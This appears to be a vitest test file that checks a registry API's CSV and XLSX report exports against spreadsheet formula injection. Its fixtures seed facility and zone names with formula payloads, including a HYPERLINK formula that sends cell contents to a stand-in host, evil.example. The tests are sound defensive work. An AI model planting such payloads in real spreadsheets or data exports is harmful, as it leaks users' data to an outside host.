import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parseCsv } from '../../../api/csv.ts'
import { REPORT_TABLES } from '../../../core/coverage/tables.ts'
import { testFacility } from '../../support/platform.ts'
import { startTenants, type Tenants } from './tenants.ts'

const FORMULA = /^[=+\-@\t\r]/

describe('CSV exports', () => {
  let tenants: Tenants

  beforeAll(async () => {
    tenants = await startTenants()
    // What an admin typed, or a CSV import brought in: to a spreadsheet, each of these is a formula. (A
    // province is checked against the list of units, so it cannot be one.)
    await tenants.registry.createFacility(
      testFacility('fac-x', {
        name: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        province: 'Hà Nội',
        sector: '@SUM(1+1)',
        hazards: ['noise'],
        registeredAt: Date.parse('2020-01-01T00:00:00+07:00'),
      }),
    )
    await tenants.registry.createZone({ id: 'zone-x', facilityId: 'fac-x', name: '-1+1' })
    await tenants.registry.createCampaigns([
      {
        id: 'c-x',
        facilityId: 'fac-x',
        organisationId: 'ca',
        declaration: { reference: '=1', publishedBy: 'Sở Y tế Hà Nội' },
        startedOn: '2025-05-01',
        endedOn: '2025-05-02',
        measurements: [{ zoneId: 'zone-x', factor: 'dust.total', samples: 3, samplesOverLimit: 1 }],
        recordedAt: 0,
        recordedBy: 'test',
      },
    ])
  })

  afterAll(async () => {
    await tenants?.close()
  })

  it.each(REPORT_TABLES)('the coverage table %s holds no cell a spreadsheet would run', async (table) => {
    const response = await tenants.as(
      'regulator',
      'GET',
      `/api/v1/reports/coverage?period=2025&format=csv&table=${table}`,
    )
    expect(response.status).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    const cells = parseCsv(response.text).flat()
    // Numbers the report computed may be negative; text may not start a formula.
    expect(cells.filter((cell) => FORMULA.test(cell) && Number.isNaN(Number(cell)))).toEqual([])
  })

  it('shows what was typed, behind a quote', async () => {
    const response = await tenants.as(
      'regulator',
      'GET',
      '/api/v1/reports/coverage?period=2025&format=csv&table=shortfalls',
    )
    const row = parseCsv(response.text).find((cells) => cells[0] === 'fac-x')
    expect(row?.slice(0, 4)).toEqual([
      'fac-x',
      `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
      'Hà Nội',
      "'@SUM(1+1)",
    ])
  })

  it.each(['physical', 'dust'])(
    'the provincial table %s holds no cell a spreadsheet would run',
    async (table) => {
      const response = await tenants.as(
        'regulator',
        'GET',
        `/api/v1/reports/provincial?period=2025&province=01&format=csv&table=${table}`,
      )
      expect(response.status).toBe(200)
      const cells = parseCsv(response.text).flat()
      expect(cells.filter((cell) => FORMULA.test(cell) && Number.isNaN(Number(cell)))).toEqual([])
    },
  )

  it('writes names into the XLSX workbook as text, never as formulas', async () => {
    const response = await tenants.app.inject({
      method: 'GET',
      url: '/api/v1/reports/provincial?period=2025&province=01&format=xlsx',
      headers: { authorization: `Bearer ${tenants.keys.regulator}` },
    })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(new Uint8Array(response.rawPayload).buffer)
    const name = workbook.getWorksheet('Bảng 2')!.getCell('B4')
    expect(name.value).toBe('=HYPERLINK("http://evil.example/?"&A1,"open")')
    expect(name.type).toBe(ExcelJS.ValueType.String)
    let formulas = 0
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) formulas++
        }),
      ),
    )
    expect(formulas).toBe(0)
  })
})
